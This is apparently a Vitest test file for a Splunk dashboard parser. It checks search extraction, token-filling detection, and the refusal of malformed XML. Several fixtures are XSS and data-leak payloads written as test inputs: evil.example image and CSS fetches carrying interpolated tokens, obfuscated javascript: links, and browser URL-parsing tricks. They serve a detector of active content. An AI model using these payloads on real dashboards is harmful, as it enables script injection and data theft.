import { expect, test } from 'vitest'
import {
  contentsOf,
  parseStudio,
  readDashboard,
  writeDashboard
} from '../../../main/splunk/dashboards/definition.ts'

const classic = (inner: string) => contentsOf(readDashboard(`<form>${inner}</form>`).definition)
const studio = (json: Record<string, unknown>) => contentsOf({ type: 'studio', json })

test('the searches of Simple XML, with what they go on from', () => {
  const { searches } = classic(`
    <search id="base"><query>index=web | fields status</query></search>
    <fieldset><input><search><query>| tstats count by host</query></search></input></fieldset>
    <row><panel><table><search base="base"><query>| stats count by status</query></search></table>
    <chart><searchString>index=app</searchString></chart>
    <single><search base="nowhere"><query>stats count</query></search></single></panel></row>
    <drilldown><link>search?q=index%3Dweb%20%7C%20head%201&amp;earliest=0</link></drilldown>`)
  expect(searches).toEqual([
    { id: 'base', spl: 'index=web | fields status' },
    { id: null, spl: '| tstats count by host' },
    { id: null, spl: 'index=web | fields status\n| stats count by status' },
    { id: null, spl: 'index=app' },
    { id: null, spl: 'search *\n| stats count' },
    { id: null, spl: 'index=web | head 1' }
  ])
})

test('SPL in CDATA and in entities is read as Splunk reads it', () => {
  const { searches } = classic(
    '<search><query><![CDATA[index=web status>=500 ]]>| where a &lt; 3 &#124; head 1</query></search>'
  )
  expect(searches[0]?.spl).toBe('index=web status>=500 | where a < 3 | head 1')
})

test.each([
  '<search><query>index=web <!-- x -->| head 1</query></search>',
  '<search><query>index=web <b>| head 1</b></query></search>',
  '<search><query>index=web</query><query>| head 1</query></search>',
  '<panel><query>a<?b c?></query></panel>'
])('SPL that readers could read differently is refused: %s', (xml) => {
  expect(() => classic(xml)).toThrow('cannot be read for sure')
})

test('results that fill tokens by themselves are seen', () => {
  const fills = [
    classic('<search><done><set token="a">$result.a$</set></done><query>a</query></search>'),
    classic('<input><selectFirstChoice>true</selectFirstChoice></input>'),
    studio({ dataSources: { a: { type: 'ds.search', options: { query: 'x=$b:result.c$' } } } }),
    studio({ inputs: { a: { options: { selectFirstSearchResult: true } } } }),
    classic(
      '<input><default>*</default></input><drilldown><set token="a">$row.b$</set></drilldown>'
    )
  ].map(({ fillsTokens }) => fillsTokens)
  expect(fills).toEqual([true, true, true, true, false])
})

test('saved searches and panels that are named', () => {
  const { references } = classic(
    '<row><panel ref="shared"/><panel><table><search ref="My report"/></table><event><searchName>Old</searchName></event></panel></row>'
  )
  expect(references).toEqual(['shared', 'My report', 'Old'])
})

test.each([
  ['<dashboard script="a.js"/>'],
  ['<dashboard stylesheet="a.css"/>'],
  ['<dashboard><html src="page.html"/></dashboard>'],
  ['<dashboard><html><script>1</script></html></dashboard>'],
  ['<dashboard><html><![CDATA[<script>1</script>]]></html></dashboard>'],
  ['<dashboard><html>&lt;img src="https://evil.example/$t$"&gt;</html></dashboard>'],
  ['<dashboard><html><img src="//evil.example/a.png"/></html></dashboard>'],
  ['<dashboard><html><img src="$picture$"/></html></dashboard>'],
  ['<dashboard><html><p onclick="x()">a</p></html></dashboard>'],
  ['<dashboard><html><p style="background:url(https://evil.example)">a</p></html></dashboard>'],
  ['<dashboard><html><style>@import "https://evil.example/a.css"</style></html></dashboard>'],
  ['<dashboard><html><a href=" javascript:x()">a</a></html></dashboard>'],
  ['<dashboard><html><iframe src="/a"/></html></dashboard>'],
  [
    '<dashboard><map><option name="mapping.tileLayer.url">https://evil.example/{x}</option></map></dashboard>'
  ],
  ['<dashboard><link>javascript:alert(1)</link></dashboard>'],
  ['<dashboard><link>java&#9;script:alert(1)</link></dashboard>'],
  // Browsers drop the tab.
  ['<dashboard><html><img src="/&#9;/evil.example/x.png"/></html></dashboard>'],
  ['<dashboard><map><option name="u">https:/evil.example/{z}</option></map></dashboard>']
])('%s would run or fetch something', (xml) => {
  expect(contentsOf(readDashboard(xml).definition).active).not.toEqual([])
})

test('plain HTML, and links that a viewer clicks, run nothing', () => {
  const { active, links } = classic(
    '<html><h1 class="a">Hello <b>you</b></h1><a href="https://wiki.example.com/x?y=1">more</a><img src="/static/app/search/a.png"/></html><drilldown><link target="_blank">https://vt.example.com/$click.value$</link></drilldown>'
  )
  expect(active).toEqual([])
  expect(links).toEqual(['https://vt.example.com/$click.value$', 'https://wiki.example.com/x?y=1'])
})

test('the searches of Dashboard Studio, with what they extend', () => {
  const contents = studio({
    dataSources: {
      base: { type: 'ds.search', options: { query: 'index=web' } },
      part: { type: 'ds.chain', options: { extend: 'base', query: '| stats count' } },
      saved: { type: 'ds.savedSearch', options: { ref: 'My report' } },
      fixed: { type: 'ds.test', options: { data: {} } }
    },
    visualizations: {
      viz_1: {
        type: 'splunk.table',
        eventHandlers: [
          { type: 'drilldown.linkToSearch', options: { query: 'index=app' } },
          { type: 'drilldown.customUrl', options: { url: 'https://vt.example.com/$row.ip.value$' } }
        ]
      }
    },
    inputs: { one: { options: { defaultValue: '*', items: '>frame(label) | objects()' } } }
  })
  expect(contents).toEqual({
    searches: [
      { id: 'base', spl: 'index=web' },
      { id: 'part', spl: 'index=web\n| stats count' },
      { id: null, spl: 'index=app' }
    ],
    references: ['saved (ds.savedSearch)'],
    active: [],
    fillsTokens: false,
    links: ['https://vt.example.com/$row.ip.value$'],
    tokenTexts: [
      'drilldown.linkToSearch',
      'index=app',
      'drilldown.customUrl',
      'https://vt.example.com/$row.ip.value$',
      '*'
    ]
  })
})

test.each([
  [{ visualizations: { a: { type: 'splunk.image', options: { src: 'https://evil.example' } } } }],
  [{ layout: { options: { backgroundImage: { src: '//evil.example/a.png' } } } }],
  [{ visualizations: { a: { options: { markdown: '![x](https://evil.example/$t$)' } } } }],
  [{ visualizations: { a: { options: { markdown: '<img src=x>' } } } }],
  [{ visualizations: { a: { options: { baseLayerTileServer: 'https://evil.example/{z}' } } } }]
])('%j would run or fetch something', (json) => {
  expect(studio(json).active).not.toEqual([])
})

test('a data source that extends itself or none is named', () => {
  const of = (extend: string) => () =>
    studio({ dataSources: { a: { type: 'ds.chain', options: { extend, query: 'head 1' } } } })
  expect(of('a')).toThrow('"a" extends')
  expect(of('b')).toThrow('"a" extends')
})

test.each([
  ['<dashboard>', 'unclosed tag'],
  ['<dashboard><a></b></dashboard>', 'unexpected close tag'],
  ['<!DOCTYPE x [<!ENTITY a "b">]><dashboard/>', 'document type'],
  ['<dashboard a="1" a="2"/>', 'duplicate attribute'],
  ['<dashboard>&nbsp;</dashboard>', 'undefined entity'],
  ['<view/>', '<view> is not the root'],
  ['<dashboard version="2"><definition>{"a":</definition></dashboard>', 'not the JSON']
])('%s is refused', (xml, why) => {
  expect(() => readDashboard(xml)).toThrow(why)
})

test('what is written is read again as it was', () => {
  const json = { title: 'a <b> & ]]> "c"', dataSources: {} }
  const frame = { label: 'Five < six & "seven"', description: 'What', theme: 'dark' } as const
  const xml = writeDashboard({ type: 'studio', json }, frame)
  expect(readDashboard(xml)).toEqual({ ...frame, definition: { type: 'studio', json } })
  const simple = writeDashboard({ type: 'classic', xml: '<form\n hideEdit="true"/>' }, frame)
  expect(readDashboard(simple)).toMatchObject(frame)
  expect(() => writeDashboard({ type: 'classic', xml: simple }, { label: 'Other' })).toThrow(
    'a label of its own'
  )
  expect(() => parseStudio('[1]')).toThrow('it is no object')
})

test.each([
  'https:evil.example/x.png',
  'https:/evil.example/x.png',
  '\u0001//evil.example/x.png',
  '/\t/evil.example/x.png',
  'java\nscript:alert(1)'
])('what a browser takes for an address elsewhere is one: %j', (src) => {
  const json = { visualizations: { v: { type: 'splunk.image', options: { src } } } }
  expect(studio(json).active).toHaveLength(1)
})

test('searches that grow through one that they all go on from are refused', () => {
  const base = `<search id="b"><query>${'x'.repeat(40_000)}</query></search>`
  const others = '<search base="b"><query>y</query></search>'.repeat(20)
  expect(() => classic(base + others)).toThrow(/more than 500000 characters/)
  const more = Array.from({ length: 20 }, (_, at) => [
    `d${at}`,
    { type: 'ds.chain', options: { query: 'y', extend: 'b' } }
  ])
  const b = { type: 'ds.search', options: { query: 'x'.repeat(40_000) } }
  expect(() => studio({ dataSources: { b, ...Object.fromEntries(more) } })).toThrow(/500000/)
  const links = Array.from({ length: 20 }, () => `search?q=${'x'.repeat(40_000)}`)
  expect(() => studio({ links })).toThrow(/500000/)
})

test('what nests too deeply is refused', () => {
  expect(() => classic('<a>'.repeat(300) + '</a>'.repeat(300))).toThrow(/nest too deeply/)
  let value: unknown = 'x'
  for (let depth = 0; depth < 100; depth += 1) value = { a: value }
  expect(() => studio({ value })).toThrow(/nests too deeply/)
})

test('a long text is looked through for tokens at once', () => {
  expect(studio({ title: ':result.'.repeat(80_000) }).fillsTokens).toBe(false)
  expect(studio({ title: '$search:result.host$' }).fillsTokens).toBe(true)
})
